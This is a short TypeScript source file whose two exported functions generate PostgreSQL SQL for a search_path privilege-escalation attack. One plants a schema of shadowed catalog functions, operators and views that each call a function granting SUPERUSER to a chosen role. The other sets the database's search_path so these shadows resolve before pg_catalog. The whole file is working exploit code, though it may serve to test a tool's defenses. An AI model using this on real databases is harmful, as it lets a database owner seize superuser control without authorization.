/** What the owner of a database may put in it, so that a superuser who resolves a name there makes that owner a superuser. */
export const plantedIn = (role: string): string =>
  `
CREATE SCHEMA planted;
CREATE FUNCTION planted.take() RETURNS boolean LANGUAGE plpgsql AS $$
  BEGIN ALTER ROLE "${role}" SUPERUSER; RETURN true; EXCEPTION WHEN insufficient_privilege THEN RETURN false; END $$;
CREATE FUNCTION planted.pg_database_size(name) RETURNS bigint LANGUAGE sql AS 'SELECT 1 WHERE planted.take() IS NOT NULL';
CREATE FUNCTION planted.pg_database_size(oid) RETURNS bigint LANGUAGE sql AS 'SELECT 1 WHERE planted.take() IS NOT NULL';
CREATE FUNCTION planted.current_setting(text) RETURNS text LANGUAGE sql AS 'SELECT ''150000'' WHERE planted.take() IS NOT NULL';
CREATE FUNCTION planted.format(text, VARIADIC text[]) RETURNS text LANGUAGE sql AS 'SELECT NULL WHERE planted.take() IS NOT NULL';
CREATE FUNCTION planted.pg_get_userbyid(oid) RETURNS name LANGUAGE sql AS 'SELECT ''x''::name WHERE planted.take() IS NOT NULL';
CREATE FUNCTION planted.count_all(bigint, "any") RETURNS bigint LANGUAGE internal AS 'int8inc_any';
CREATE FUNCTION planted.same(name, text) RETURNS boolean LANGUAGE sql AS 'SELECT planted.take()';
CREATE OPERATOR planted.= (LEFTARG = name, RIGHTARG = text, FUNCTION = planted.same);
CREATE OPERATOR planted.<> (LEFTARG = name, RIGHTARG = text, FUNCTION = planted.same);
CREATE OPERATOR planted.!~ (LEFTARG = name, RIGHTARG = text, FUNCTION = planted.same);
CREATE VIEW planted.pg_class AS SELECT c.* FROM pg_catalog.pg_class c WHERE planted.take() IS NOT NULL;
CREATE VIEW planted.pg_roles AS SELECT r.* FROM pg_catalog.pg_roles r WHERE planted.take() IS NOT NULL;
CREATE VIEW planted.pg_database AS SELECT d.* FROM pg_catalog.pg_database d WHERE planted.take() IS NOT NULL;
CREATE VIEW planted.pg_namespace AS SELECT n.* FROM pg_catalog.pg_namespace n WHERE planted.take() IS NOT NULL;
`.replace(/^CREATE FUNCTION planted\.count_all.*\n/m, '');

/** From the next session on, these names come before the server's own. */
export const planting = (database: string): string =>
  `ALTER DATABASE "${database}" SET search_path = planted, pg_catalog, public;`;
